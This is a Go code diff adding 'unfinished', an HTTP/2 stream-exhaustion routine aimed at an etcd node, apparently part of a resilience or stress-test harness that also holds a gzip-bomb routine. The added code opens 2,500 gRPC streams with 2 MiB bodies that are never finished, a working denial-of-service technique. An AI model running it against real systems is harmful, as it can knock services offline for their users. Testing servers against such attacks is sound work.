@@ -146,3 +146,33 @@ func gzipBombs(ctx context.Context, a *attacker, h *h2) error {
 	}
 	return nil
 }
+
+// unfinished begins requests of 2 MiB on many streams and ends none.
+func unfinished(ctx context.Context, a *attacker, h *h2) error {
+	const streams, size, piece = 2500, 2<<20 - 1, 16 << 10
+	h.discard()
+	body := make([]byte, piece)
+	for range streams {
+		id := h.next
+		h.open(etcdserverpb.KV_Put_FullMethodName)
+		_ = h.WriteData(id, false, binary.BigEndian.AppendUint32([]byte{0}, size)) // to a buffer
+	}
+	if err := h.send(); err != nil {
+		return nil //nolint:nilerr // the node ends the connection, as it may
+	}
+	a.did("requests", streams)
+	for sent := 0; sent+piece < size; sent += piece {
+		for id := uint32(1); id < h.next; id += 2 {
+			_ = h.WriteData(id, false, body) // to a buffer
+			if h.out.Len() < 1<<20 {
+				continue
+			}
+			if err := h.send(); err != nil {
+				return nil //nolint:nilerr // the node ends the connection, as it may
+			}
+			a.did("MiB", 1)
+		}
+	}
+	<-ctx.Done()
+	return nil
+}
